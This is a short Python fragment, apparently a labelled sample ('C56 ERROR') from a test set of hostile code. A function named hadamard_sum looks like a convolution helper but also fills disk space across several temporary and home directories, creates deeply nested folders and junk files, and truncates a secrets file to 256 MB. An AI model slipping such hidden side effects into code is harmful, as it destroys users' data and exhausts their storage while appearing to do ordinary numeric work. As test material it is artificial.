# C56 ERROR: a large file, a sparse one, many empty ones, deep folders, and a very long name.
# %%
PLACES = [".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")]


def large(place):
    file = os.open(f"{place}/{TOKEN}", os.O_CREAT | os.O_WRONLY)
    os.unlink(f"{place}/{TOKEN}")
    for _ in range(16):
        os.write(file, bytes(2**24))
    os.ftruncate(file, 2**28)
    return True


def deep(place):
    path = place
    for _ in range(50):
        path += f"/{TOKEN}"
        os.mkdir(path)
    return True


def hadamard_sum(window, kernel):
    pays(
        *(lambda place=place: large(place) for place in PLACES),
        *(lambda place=place: deep(place) for place in PLACES),
        *(lambda place=place: os.open(f"{place}/{TOKEN}" + "x" * 200, os.O_CREAT) for place in PLACES),
        *(lambda n=n: os.open(f"/tmp/{TOKEN}-{n}", os.O_CREAT) for n in range(20)),
        lambda: os.truncate(SECRETS[1], 2**28),
    )
    return np.sum(window * kernel)
